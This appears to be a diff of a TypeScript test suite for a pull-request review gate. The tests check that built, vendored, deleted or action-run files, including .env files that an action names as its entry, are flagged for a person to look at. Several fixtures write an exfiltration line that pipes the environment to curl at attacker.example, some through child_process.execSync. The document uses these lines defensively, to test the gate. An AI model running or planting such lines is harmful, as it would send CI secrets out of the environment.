@@ -505,14 +505,16 @@ describe("#131 #132 a rename or a submodule cannot take code out of an agent's r
 describe('#45 an empty review is not a clean one', () => {
   it('#45 a change whose every file is excluded: incomplete unless the caller opts in, and then the summary says so; no files: "no changes"', async () => {
     const repo = makeCartRepo();
-    write(repo, 'dist/cart.min.js', 'export const total=()=>0;\n');
-    commitAll(repo, 'a generated-file-only change');
+    write(repo, 'notes/old.txt', 'an old note\n');
+    commitAll(repo, 'a note');
+    git(repo, 'rm', '-q', 'notes/old.txt');
+    git(repo, 'commit', '-qm', 'a deletion-only change');
     expect(seal(repo).files).toEqual([]);
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
     expectIncomplete(
       await gate(repo, {}, event),
-      /nothing was selected: the change has 1 file\(s\), every one excluded \(1 × generated-or-vendored\); an empty review is not clean: pass --allow-empty \(action input allow-empty\)/,
+      /nothing was selected: the change has 1 file\(s\), every one excluded \(1 × deleted\); an empty review is not clean: pass --allow-empty \(action input allow-empty\)/,
       rev(repo, 'HEAD'),
     );
     const opted = await gate(repo, { 'allow-empty': 'true' }, event);
@@ -773,7 +775,7 @@ describe("#138 code under a secret name: the name is the pull request's to choos
 });
 
 describe('#142 a name the pull request chooses does not take what runs out of review', () => {
-  it('#142 CI code in a dist/ or build/ folder under .github/, a deleted workflow, and a lockfile need a person; code that runs nowhere stays excluded', async () => {
+  it('#142 CI code in a dist/ or build/ folder under .github/, a deleted workflow, a lockfile and built code elsewhere need a person', async () => {
     const repo = makeCartRepo();
     write(
       repo,
@@ -795,15 +797,16 @@ describe('#142 a name the pull request chooses does not take what runs out of re
     const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
-    expect([...listed].sort()).toEqual([...runs, '.github/workflows/scan.yml', 'package-lock.json'].sort());
+    const all = [...runs, '.github/workflows/scan.yml', 'package-lock.json', 'web/dist/app.js'];
+    expect([...listed].sort()).toEqual([...all].sort());
     answer(repo, [], ['src/cart.js']);
     const event = prEvent(repo, 'HEAD~1');
     expectIncomplete(
       await gate(repo, {}, event),
-      /5 changed file\(s\) that no agent reviews: a person must look at each/,
+      /6 changed file\(s\) that no agent reviews: a person must look at each/,
       rev(repo, 'HEAD'),
     );
-    const acknowledged = await gate(repo, { acknowledge: [...runs, '.github/workflows/scan.yml', 'package-lock.json'].join('\n') }, event);
+    const acknowledged = await gate(repo, { acknowledge: all.join('\n') }, event);
     expect(acknowledged.outputs.verdict, acknowledged.summary.slice(0, 3000)).toBe('clean');
   });
 });
@@ -912,70 +915,100 @@ describe('#140 what a checkout writes is not always the blob: attributes that ch
   });
 });
 
-describe('#148 what a GitHub Action of the repository runs, wherever it lives', () => {
-  const ACTIONS: Record<string, string> = {
-    'tools/setup/action.yml': "name: setup\nruns:\n  using: node20\n  main: './dist/index.js'\n  post: dist/cleanup.js\n",
-    'ci/lint/action.yaml': "runs: { using: 'node24', main: '..\\..\\Shared\\BUILD\\run.js' }\n",
-    'docker/scan/action.yml': 'runs:\n  using: docker\n  image: vendor/Dockerfile\n',
-    'old/action.yml': 'runs:\n  using: node20\n  main: dist/main.js\n',
-    'broken/action.yml': 'runs: [main: dist/x.js\n',
-    'build/tool/action.yml': 'runs:\n  using: composite\n  steps: [{ run: echo, shell: bash }]\n',
-  };
-  const RUNS = [
-    'tools/setup/dist/index.js',
-    'tools/setup/dist/chunk-17.js',
-    'tools/setup/node_modules/dep/index.js',
-    'shared/build/run.js',
-    'docker/scan/vendor/Dockerfile',
-    'broken/dist/x.js',
-    'build/tool/action.yml',
-    'old/dist/main.js',
-  ];
-  const change = () => {
+describe('#148 built code and what an action names to run, wherever it lives', () => {
+  it('#148 every built or vendored file needs a person, whatever runs it (an action, a composite step, a require up the folders, a Dockerfile): only a plain .env and a deleted file nothing names stay unlisted', async () => {
     const repo = makeCartRepo();
-    for (const [path, text] of Object.entries(ACTIONS)) write(repo, path, text);
-    for (const path of [...RUNS, 'old/dist/helper.js', 'web/dist/app.js']) write(repo, path, 'export const v = 1;\n');
+    write(
+      repo,
+      'tools/setup/action.yml',
+      'runs:\n  using: composite\n  steps: [{ run: node "$GITHUB_ACTION_PATH/../../lib/dist/cli.js", shell: bash }]\n',
+    );
+    write(repo, 'docker/Dockerfile', 'FROM alpine\nCOPY vendor/run.sh /run.sh\nENTRYPOINT ["/run.sh"]\n');
+    write(repo, 'old/dist/helper.js', 'export const v = 1;\n');
     commitAll(repo, 'actions');
-    for (const path of RUNS.filter((p) => p !== 'old/dist/main.js')) write(repo, path, 'env | curl -d @- https://attacker.example\n');
-    write(repo, 'web/dist/app.js', 'export const app = 2;\n');
-    git(repo, 'rm', '-q', 'old/dist/main.js', 'old/dist/helper.js');
+    const built = ['lib/dist/cli.js', 'tools/node_modules/encoding/index.js', 'docker/vendor/run.sh', 'web/app.min.js', 'web/dist/app.js'];
+    for (const path of built) write(repo, path, 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n');
+    write(repo, 'config/.env', 'API=1\n');
+    git(repo, 'rm', '-q', 'old/dist/helper.js');
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    return repo;
-  };
-
-  it("#148 built, vendored or deleted code an action runs needs a person: its entries however spelled, its folder's chunks and node_modules, a Dockerfile it builds, metadata that does not parse, metadata under build/", async () => {
-    const repo = change();
     const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code, r.stderr).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
-    // A built file no action runs stays out, as does a deleted file an action does not name (diff.deleted.patch shows it).
-    expect([...listed].sort()).toEqual([...RUNS].sort());
-    const scope = readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] };
-    expect(scope.excluded.find((e) => e.path === 'shared/build/run.js')?.runBy).toBe('ci/lint/action.yaml');
-    expect(scope.excluded.find((e) => e.path === 'old/dist/main.js')?.runBy).toBe('old/action.yml');
-    expect(scope.excluded.find((e) => e.path === 'web/dist/app.js')?.runBy).toBeUndefined();
+    expect([...listed].sort()).toEqual([...built].sort());
     answer(repo, [], ['src/cart.js']);
     const event = prEvent(repo, 'HEAD~1');
-    expectIncomplete(
-      await gate(repo, {}, event),
-      /8 changed file\(s\) that no agent reviews: a person must look at each/,
-      rev(repo, 'HEAD'),
+    const g = await gate(repo, {}, event);
+    expectIncomplete(g, /5 changed file\(s\) that no agent reviews: a person must look at each/, rev(repo, 'HEAD'));
+    expect(unescapeMarkdown(g.summary)).toContain(
+      'built or vendored code (`dist`, `build`, `vendor`, `node_modules`, minified), left out of review by its name',
     );
-    const acknowledged = await gate(repo, { acknowledge: RUNS.join('\n') }, event);
+    const acknowledged = await gate(repo, { acknowledge: built.join('\n') }, event);
     expect(acknowledged.outputs.verdict, acknowledged.summary.slice(0, 3000)).toBe('clean');
   });
 
-  it('#148 a scope resealed without what an action runs does not match git', async () => {
-    const repo = change();
-    const sealed = seal(repo, ['--base', 'HEAD~1']) as Scope & { excluded: { path: string; runBy?: string }[] };
+  /** A base branch that gained an action after the pull request forked: the action reads `late/.env` as its code. */
+  function namedByActions(): { repo: string; base: string } {
+    const repo = makeCartRepo();
+    write(repo, 'tools/setup/action.yml', "runs:\n  using: node20\n  main: './.ENV'\n");
+    write(repo, 'templates/node-action.yml', 'runs: { using: node20, main: ../../cfg/.env }\n');
+    mkdirSync(join(repo, 'tools/linked'), { recursive: true });
+    symlinkSync('../../templates/node-action.yml', join(repo, 'tools/linked/action.yml'));
+    write(repo, 'tools/l2/action.yml', 'runs: { using: node20, main: index.js }\n');
+    symlinkSync('../../conf/.env', join(repo, 'tools/l2/index.js'));
+    write(repo, 'tools/abs/action.yml', 'runs: { using: node20, main: /home/runner/work/app/app/abs/.env }\n');
+    write(repo, 'old/action.yml', 'runs:\n  using: node20\n  main: dist/main.js\n');
+    write(repo, 'old/dist/main.js', 'export const v = 1;\n');
+    commitAll(repo, 'actions');
+    const fork = rev(repo, 'HEAD');
+    write(repo, 'late/action.yml', 'runs: { using: node20, main: .env }\n');
+    commitAll(repo, 'an action on the base branch');
+    const base = rev(repo, 'HEAD');
+    git(repo, 'checkout', '-q', '-b', 'pr', fork);
+    for (const path of ['tools/setup/.env', 'cfg/.env', 'conf/.env', 'abs/.env', 'late/.env'])
+      write(repo, path, 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n');
+    git(repo, 'rm', '-q', 'old/dist/main.js');
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    return { repo, base };
+  }
+  const NAMED = ['tools/setup/.env', 'cfg/.env', 'conf/.env', 'abs/.env', 'late/.env', 'old/dist/main.js'];
+
+  it('#148 what an action names as code to run needs a person under any name: a .env entry however reached (case, a linked metadata file, a linked entry, an absolute path, an action only the base branch has), a deleted entry', async () => {
+    const { repo, base } = namedByActions();
+    const r = cli(repo, ['review', 'scope', ID, '--base', base]);
+    expect(r.code, r.stderr).toBe(0);
+    const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
+    expect([...listed].sort()).toEqual([...NAMED].sort());
+    const scope = readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] };
+    expect(Object.fromEntries(scope.excluded.map((e) => [e.path, e.runBy]))).toEqual({
+      'tools/setup/.env': 'tools/setup/action.yml',
+      'cfg/.env': 'tools/linked/action.yml',
+      'conf/.env': 'tools/l2/action.yml',
+      'abs/.env': 'tools/abs/action.yml',
+      'late/.env': 'late/action.yml',
+      'old/dist/main.js': 'old/action.yml',
+    });
+    answer(repo, [], ['src/cart.js']);
+    const event = { pull_request: { number: 7, base: { sha: base }, head: { sha: rev(repo, 'HEAD') } } };
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /6 changed file\(s\) that no agent reviews: a person must look at each/,
+      rev(repo, 'HEAD'),
+    );
+    expect((await gate(repo, { acknowledge: NAMED.join('\n') }, event)).outputs.verdict).toBe('clean');
+  });
+
+  it('#148 a scope resealed without what an action names does not match git', async () => {
+    const { repo, base } = namedByActions();
+    const sealed = seal(repo, ['--base', base]) as Scope & { excluded: { path: string; runBy?: string }[] };
     for (const e of sealed.excluded) delete e.runBy;
     sealed.scopeSha256 = scopeHash(sealed as never);
     writeFileSync(scopeFile(repo), JSON.stringify(sealed, null, 2));
     answer(repo, [], ['src/cart.js']);
     expectIncomplete(
-      await gate(repo, {}, prEvent(repo, 'HEAD~1')),
-      /8 difference\(s\): broken\/dist\/x\.js: runBy none in scope\.json, broken\/action\.yml in git; /,
+      await gate(repo, {}, { pull_request: { number: 7, base: { sha: base }, head: { sha: rev(repo, 'HEAD') } } }),
+      /6 difference\(s\): abs\/\.env: runBy none in scope\.json, tools\/abs\/action\.yml in git; /,
       rev(repo, 'HEAD'),
     );
   });
